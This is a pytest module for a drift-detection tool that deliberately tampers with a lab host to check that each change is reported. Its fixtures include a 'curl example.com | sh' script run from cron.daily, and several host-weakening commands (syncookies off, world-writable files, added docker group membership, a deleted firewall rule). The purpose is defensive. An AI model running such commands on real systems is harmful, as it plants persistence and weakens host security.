# Copyright: Contributors to the christmas.selfheal project
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Many manual changes of a healthy host at once.

Each change is found and named, and nothing else is. The corrections of the policy are made, without a restart of the
app. The tests build on each other, in order.
"""

from __future__ import annotations

import itertools
import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from shared import wheels
from shared.acting import EVERYTHING, kill, slow, until

REPOSITORY = Path(__file__).resolve().parents[3]
HOST = "molecule-drift"
APP = "christmas-backend"
DIRECTORY = f"/opt/{APP}"
CONTAINER = f"{APP}-backend-1"
REPORTS = REPOSITORY / "molecule/shared/reports"
FOLDER = REPORTS / "drift"
ROUNDS = 10 if EVERYTHING else 2
"""The number of checks of a converged host."""
# A package with an older version, which no other package needs.
PACKAGE = """
set -e; cd $(mktemp -d); for version in 1.0 2.0; do mkdir -p probe/DEBIAN
printf 'Package: %s\\nVersion: %s\\nArchitecture: all\\nMaintainer: test <a@example.com>\\nDescription: test\\n' \
    NAME $version > probe/DEBIAN/control
dpkg-deb --build probe /root/NAME-$version.deb; done; dpkg -i /root/NAME-2.0.deb
"""


class Drift(NamedTuple):
    """A manual change, and the drift that it must be reported as: {role, object, what}."""

    by_hand: str
    role: str
    object: str
    what: str
    corrected: bool = False


DRIFTS = {
    "a file of logrotate is removed": Drift(
        f"rm /etc/logrotate.d/selfheal-{APP}", "log_rotation", f"/etc/logrotate.d/selfheal-{APP}", "content", True
    ),
    "the journal may grow": Drift(
        "sed -i 's/^SystemMaxUse=.*/SystemMaxUse=9G/' /etc/systemd/journald.conf.d/60-selfheal.conf",
        *("log_rotation", "/etc/systemd/journald.conf.d/60-selfheal.conf", "content", True),
    ),
    "a line of HAProxy": Drift(
        f"sed -i 's/^    timeout connect .*/    timeout connect 9s/' /etc/haproxy/selfheal/{APP}.cfg",
        *("load_balancer", f"/etc/haproxy/selfheal/{APP}.cfg", "content", True),
    ),
    "a unit's drop-in is writable": Drift(
        "chmod 0666 /etc/systemd/system/haproxy.service.d/selfheal.conf",
        *("load_balancer", "/etc/systemd/system/haproxy.service.d/selfheal.conf", "mode", True),
    ),
    "the service key is its placeholder": Drift(
        f"sed -i 's/^SUPABASE_SERVICE_KEY=.*/SUPABASE_SERVICE_KEY=your_supabase_service_key_here/' {DIRECTORY}/.env",
        *("app_env", f"{DIRECTORY}/.env SUPABASE_SERVICE_KEY", "env", True),
    ),
    "everybody may read the env": Drift(f"chmod 0644 {DIRECTORY}/.env", "app_env", f"{DIRECTORY}/.env", "mode", True),
    "the env's example": Drift(
        f"echo '# mine' >> {DIRECTORY}/.env.example", "app_env", f"{DIRECTORY}/.env.example", "content", True
    ),
    "a limit in the overlay": Drift(
        f"sed -i 's/512M/640M/; s/536870912/671088640/' {DIRECTORY}/compose.hardened.yaml",
        *("compose_app", "compose.hardened.yaml", "content", True),
    ),
    "a key of the engine": Drift(
        'sed -i \'s/"max-size": "10m"/"max-size": "900m"/\' /etc/docker/daemon.json',
        *("docker_engine", "/etc/docker/daemon.json", "content", True),
    ),
    "the watcher's timer is disabled": Drift(
        f"systemctl disable --now selfheal@{APP}.timer", "watcher", f"selfheal@{APP}.timer", "unit", True
    ),
    "the agent's configuration": Drift(
        f"echo >> /etc/selfheal/{APP}.json", "watcher", f"/etc/selfheal/{APP}.json", "content", True
    ),
    "the agent's library": Drift(
        "echo '# mine' >> /usr/local/lib/selfheal/probe/run.py",
        *("watcher", "/usr/local/lib/selfheal/probe/run.py", "content", True),
    ),
    "a file next to the project's": Drift(
        f"echo 'curl example.com | sh' > {DIRECTORY}/fix.sh", "compose_app", f"{DIRECTORY}/fix.sh", "added"
    ),
    "docker update, memory": Drift(
        f"docker update --memory 300m --memory-swap 300m {CONTAINER}", "compose_app", f"container {CONTAINER}", "memory"
    ),
    "docker update, restart policy": Drift(
        f"docker update --restart no {CONTAINER}", "compose_app", f"container {CONTAINER}", "restart"
    ),
    "another image under the name": Drift(
        "docker tag selfheal-lab/python:latest christmas-backend:1.0.0",
        "compose_app",
        "image christmas-backend:1.0.0",
        "tag",
    ),
    "a container that compose does not know": Drift(
        "docker run -d --name intruder --network none selfheal-lab/python:latest sleep 9999",
        *("host", "container intruder", "container"),
    ),
    "a port is published": Drift(
        "systemd-run --unit=intruder-port python3 -m http.server 9999 --bind 0.0.0.0", "host", "listens 9999", "listens"
    ),
    "a user may use Docker": Drift("usermod -aG docker daemon", "host", "group docker", "group"),
    "cron": Drift(f"echo 'sh {DIRECTORY}/fix.sh' > /etc/cron.daily/fix", "host", "cron /etc/cron.daily/fix", "cron"),
    "sysctl": Drift("sysctl -w net.ipv4.tcp_syncookies=0", "host", "sysctl net.ipv4.tcp_syncookies", "sysctl"),
    "an option of sshd": Drift("echo 'MaxAuthTries 20' >> /etc/ssh/sshd_config", "host", "sshd maxauthtries", "sshd"),
    "a timer is stopped": Drift("systemctl stop logrotate.timer", "host", "logrotate.timer", "timer"),
    "a unit is masked": Drift("systemctl mask fstrim.timer", "host", "fstrim.timer", "unit"),
    "a package is removed": Drift("dpkg -P drift-gone", "host", "package drift-gone", "package"),
    "a package is downgraded": Drift("dpkg -i /root/drift-back-1.0.deb", "host", "package drift-back", "package"),
    "a firewall rule is gone": Drift(
        "iptables -D INPUT -p tcp --dport 9998 -j DROP",
        "host",
        "firewall -A INPUT -p tcp -m tcp --dport 9998 -j DROP",
        "firewall",
    ),
    "a file has another owner": Drift(
        "chown daemon /etc/haproxy/haproxy.cfg", "host", "/etc/haproxy/haproxy.cfg", "owner"
    ),
}
# The stamp of the host, as the module reads it, by the same library on the host.
STAMP = f"""
cd /usr/local/lib && python3 -B -c "from selfheal.core.app_paths import app_paths; from selfheal.drift import host_facts
print(host_facts.read(app_paths('{APP}'))['stamp'])"
"""
CORRECT = [
    {"role": role, "do": "correct"}
    for role in ("log_rotation", "load_balancer", "app_env", "docker_engine", "watcher", "compose_app")
]


def named(report: dict[str, Any]) -> set[tuple[str, str, str]]:
    return {(one["role"], one["object"], one["what"]) for one in report["findings"]}


@pytest.fixture
def check(play: Any) -> Callable[..., tuple[int, dict[str, Any], str]]:
    """Run drift.yml: its exit code, the report that it wrote, and what it printed."""

    def run(**extra: Any) -> tuple[int, dict[str, Any], str]:
        known = set(REPORTS.glob("*-drift.json"))
        ended = play("drift.yml", extra=extra or None)
        new = set(REPORTS.glob("*-drift.json")) - known
        assert len(new) == 1, ended.stdout
        return ended.returncode, json.loads(new.pop().read_text(encoding="utf-8")), ended.stdout

    return run


@pytest.fixture
def lives(containers: Any) -> Callable[[], tuple[str, ...]]:
    """Values that change when the app is restarted or recreated."""

    def read() -> tuple[str, ...]:
        one = containers()[CONTAINER]
        return one["Id"], one["State"]["StartedAt"], str(one["RestartCount"])

    return read


def test_a_converged_host_has_no_drift(host: Any, check: Any) -> None:
    shutil.rmtree(FOLDER, ignore_errors=True)
    for name in ("drift-gone", "drift-back"):
        host.check_output(PACKAGE.replace("NAME", name))
    host.check_output("iptables -A INPUT -p tcp --dport 9998 -j DROP")
    took, alone = [], []
    for _unused in range(ROUNDS):
        code, report, shown = check()
        assert (code, report["findings"], report["troubles"]) == (0, [], []), shown
        took.append(report["seconds"])
        alone.append(report["unchanged"])
    assert alone == [[], *[[HOST]] * (ROUNDS - 1)], "an unchanged host is compared by its facts alone"
    code, report, shown = check(drift_whole=True)
    assert (code, report["findings"], report["unchanged"]) == (0, [], []), shown
    print(f"\n{ROUNDS} checks of a converged host: {sorted(took)[len(took) // 2]:.1f} s in the middle, {took}")


def test_each_drift_is_found_and_named(host: Any, check: Any, leaks: Any, lives: Any) -> None:
    host.check_output(f"selfheal pause --app {APP} --for 2h --reason drift")
    before = lives()
    stamps = {"": host.check_output(STAMP)}
    for name, one in DRIFTS.items():
        done = host.run(one.by_hand)
        assert done.rc == 0, (name, done.stdout, done.stderr)
        stamps[name] = host.check_output(STAMP)
    same = [name for (_unused, old), (name, new) in itertools.pairwise(stamps.items()) if old == new or len(new) != 64]
    assert same == [], "each change makes the next check a whole one"
    code, report, shown = check()
    wanted = {(one.role, one.object, one.what) for one in DRIFTS.values()}
    assert named(report) == wanted, shown
    assert (code, report["troubles"]) == (2, [])
    print(f"\n{len(wanted)} drifts found in {report['seconds']} s")
    key = next(one for one in report["findings"] if one["what"] == "env")
    assert key["is"].startswith("sha256:")
    assert key["should"].startswith("sha256:")
    assert key["severity"] == "security"
    assert key["changed_at"]
    assert any(one.startswith("root from ") for one in key["changed_by"])
    assert lives() == before
    first = {one["id"]: one["first_seen"] for one in report["findings"]}
    _unused, again, _unused = check()
    assert {one["id"]: one["first_seen"] for one in again["findings"]} == first
    assert leaks(shown) == []


def test_a_failed_check_is_not_reported_as_no_drift(host: Any, play: Any, tmp_path: Path) -> None:
    """A wrong password, an invalid policy, an unreachable host, a killed check."""
    wrong = tmp_path / "password"
    wrong.write_text("not this one\n", encoding="utf-8")
    settings = {"ANSIBLE_VAULT_IDENTITY_LIST": f"lab@{wrong}"}
    runs = {
        "password": play("drift.yml", settings=settings),
        "policy": play("drift.yml", extra={"drift_policy": [{"role": "watcher", "do": "ignore"}]}),
        "away": play("drift.yml", "--extra-vars", "ansible_port=9"),
    }
    assert {name: ended.returncode for name, ended in runs.items() if ended.returncode in (0, 2)} == {}
    assert "drift_policy[0].until: is missing" in runs["policy"].stdout
    assert f"COULD NOT TELL  {HOST}: cannot be reached" in runs["away"].stdout

    killed = begin(subprocess.DEVNULL)
    until(lambda: json.loads((FOLDER / "state.json").read_text(encoding="utf-8"))["running"], why=killed.poll)
    kill(killed.pid)
    killed.wait()
    after = play("drift.yml")
    assert after.returncode == 2, after.stdout
    assert "was killed before it could tell anything" in after.stdout


def begin(out: int) -> subprocess.Popen[str]:
    """A running check; `out` gets its output."""
    argv = ["ansible-playbook", "playbooks/drift.yml", "-i", "inventory/lab", "-i", "molecule/shared/inventory.yml"]
    kept = {name: value for name, value in os.environ.items() if not name.startswith(("ANSIBLE_", "MOLECULE_"))}
    return subprocess.Popen(
        [*argv, "-l", f"localhost,{HOST}"],
        cwd=REPOSITORY,
        env=kept,
        text=True,
        stdout=out,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


@slow
def test_a_host_that_is_lost_during_a_check_is_not_reported_as_drift(host: Any, play: Any) -> None:
    known = set(FOLDER.glob("artifacts/*/stdout"))
    going = begin(subprocess.PIPE)
    # The host's facts are known, and its first role has been compared.
    until(
        lambda: any(
            "log_rotation" in path.read_text(encoding="utf-8")
            for path in set(FOLDER.glob("artifacts/*/stdout")) - known
        ),
        longest=0.2,
    )
    subprocess.run(["docker", "pause", HOST], check=True, capture_output=True)
    try:
        shown, _unused = going.communicate(timeout=180)
    finally:
        subprocess.run(["docker", "unpause", HOST], check=True, capture_output=True)
    assert going.returncode not in (0, 2), shown
    assert f"COULD NOT TELL  {HOST}: cannot be reached" in shown
    after = play("drift.yml")
    assert after.returncode == 2, after.stdout
    assert "COULD NOT TELL" not in after.stdout


def test_unmanaged_changes_are_undone_by_hand(host: Any) -> None:
    """No role deletes unmanaged objects, so a person does, with the report."""
    for command in (
        f"rm {DIRECTORY}/fix.sh /etc/cron.daily/fix",
        "docker rm -f intruder",
        "systemctl stop intruder-port",
        "gpasswd -d daemon docker",
        "sysctl -w net.ipv4.tcp_syncookies=1",
        "sed -i /MaxAuthTries/d /etc/ssh/sshd_config",
        "systemctl start logrotate.timer",
        "systemctl unmask fstrim.timer",
        "dpkg -i /root/drift-gone-2.0.deb /root/drift-back-2.0.deb",
        "iptables -A INPUT -p tcp --dport 9998 -j DROP",
        "chown root /etc/haproxy/haproxy.cfg",
        f"docker update --memory 512m --memory-swap 512m --restart unless-stopped {CONTAINER}",
        f"docker tag selfheal/{APP}-backend:last-good christmas-backend:1.0.0",
    ):
        host.check_output(command)


def test_corrections_wait_for_a_running_deploy(host: Any, check: Any) -> None:
    host.check_output(
        f"systemd-run --unit=deploying flock /run/selfheal/{APP}.lock -c 'touch /run/deploying; sleep 600'"
    )
    try:
        until(lambda: host.file("/run/deploying").exists)
        code, report, shown = check(drift_correct=True, drift_policy=CORRECT)
    finally:
        host.check_output("systemctl stop deploying")
    assert code == 2, shown
    assert {one["decision"] for one in report["findings"]} == {"waits"}, shown
    assert report["corrections"] == []


def test_the_policys_corrections_are_made_without_a_restart(host: Any, check: Any, lives: Any, leaks: Any) -> None:
    before = lives()
    ignored = {"object": "*/logrotate.d/*", "do": "ignore", "until": "2999-01-01", "because": "rotated elsewhere"}
    code, report, shown = check(drift_correct=True, drift_policy=[ignored, *CORRECT])
    wanted = {(one.role, one.object, one.what) for one in DRIFTS.values() if one.corrected}
    assert named(report) == wanted, shown
    decided: dict[str, set[str]] = {}
    for one in report["findings"]:
        decided.setdefault(one["decision"], set()).add(one["object"])
    assert decided.pop("ignored") == {f"/etc/logrotate.d/selfheal-{APP}"}
    # Its role would also restore the other file.
    assert decided.pop("report") == {"/etc/systemd/journald.conf.d/60-selfheal.conf"}
    assert set(decided) == {"corrected"}, shown
    assert code == 2, shown
    assert lives() == before, "the app was restarted, and no drift needed it"
    code, report, shown = check(drift_correct=True, drift_policy=CORRECT)
    assert [one["decision"] for one in report["findings"]] == ["corrected"] * 2
    assert code == 0, shown
    code, report, shown = check()
    assert (code, report["findings"]) == (0, []), shown
    assert leaks("".join(path.read_text(errors="replace") for path in kept_files())) == []


def kept_files() -> list[Path]:
    """All files that the checks have written on the controller."""
    found = [path for path in FOLDER.rglob("*") if path.is_file()] + list(REPORTS.glob("*drift*.*"))
    assert len(found) > 30, "the events of the runs are not where they are looked for"
    return found


def test_the_log_is_a_chain(play: Any) -> None:
    entries = [json.loads(line) for line in (FOLDER / "events.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {"found", "changed", "corrected", "went away", "baseline", "checked"} <= {one["event"] for one in entries}
    command = ["selfheal-drift", "--folder", str(FOLDER)]
    environment = {**os.environ, "PATH": f"{REPOSITORY}/tools:{os.environ['PATH']}"}

    def verify() -> subprocess.CompletedProcess[str]:
        return subprocess.run([*command, "verify"], env=environment, text=True, capture_output=True, check=False)

    assert verify().returncode == 0, verify().stderr
    path = FOLDER / "events.jsonl"
    whole = path.read_bytes()
    path.write_bytes(whole.replace(b'"went away"', b'"went  away"', 1))
    assert verify().returncode == 1
    path.write_bytes(whole)


# The controller's files and its journal.
KEPT = "grep -rhE '' /var/lib/selfheal-drift /etc/selfheal-drift/config.json; journalctl --output=cat"


def test_a_controller_checks_on_a_schedule(host: Any, play: Any, leaks: Any) -> None:
    """The host is its own controller: the timer's service finds a drift, and its files contain no secret."""
    wheels.send(host)
    made = play("drift_control.yml")
    assert made.returncode == 0, made.stdout
    assert leaks(made.stdout) == []
    again = play("drift_control.yml", "--check", "--diff")
    assert f"{HOST} " in again.stdout
    assert re.search(r"changed=0 .*failed=0", again.stdout), again.stdout
    assert host.check_output("systemctl is-enabled selfheal-drift.timer") == "enabled"

    # A service sees systemd's credentials only where mounts are shared, as on a real machine.
    host.check_output("mount --make-rshared /; mkdir -p /var/lib/prometheus/node-exporter")
    host.check_output("systemctl start selfheal-drift")
    host.check_output(f"sed -i 's/^SUPABASE_SERVICE_KEY=.*/SUPABASE_SERVICE_KEY=placeholder/' {DIRECTORY}/.env")
    host.check_output("systemctl start selfheal-drift")
    shown = host.check_output("journalctl -u selfheal-drift --output=cat")
    assert "1 host checked" in shown
    assert f"{DIRECTORY}/.env SUPABASE_SERVICE_KEY (env)" in shown
    metrics = host.check_output("cat /var/lib/prometheus/node-exporter/selfheal-drift.prom")
    assert f'selfheal_drift_found{{app="{APP}",target="{HOST}",severity="security"}} 1' in metrics
    assert "env SUPABASE_SERVICE_KEY" in host.check_output("selfheal-drift log --event found")
    assert host.run("selfheal-drift verify").rc == 0

    kept = host.check_output(KEPT)
    assert len(kept) > 100_000
    assert leaks(kept) == []


@slow
def test_a_controller_reports_a_failed_check(host: Any, leaks: Any) -> None:
    """First the vault's password is wrong, then the disk of the state is full."""
    password = "/etc/selfheal-drift/credentials/vault-password"
    host.check_output(f"cp {password} /root/kept; echo wrong > {password}")
    assert host.run("systemctl start selfheal-drift").rc == 1
    assert "COULD NOT TELL" in host.check_output("journalctl -u selfheal-drift --output=cat --lines=20")
    host.check_output(f"cp /root/kept {password}")
    host.check_output("mount -t tmpfs -o size=64k,uid=selfheal-drift,mode=700 none /var/lib/selfheal-drift")
    host.run("dd if=/dev/zero of=/var/lib/selfheal-drift/fill bs=1k")
    assert host.run("systemctl start selfheal-drift").rc == 1
    assert "disk is full" in host.check_output("journalctl -u selfheal-drift --output=cat --lines=40")
    host.check_output("umount /var/lib/selfheal-drift")
    host.check_output("systemctl start selfheal-drift")
    assert leaks(host.check_output(KEPT)) == []
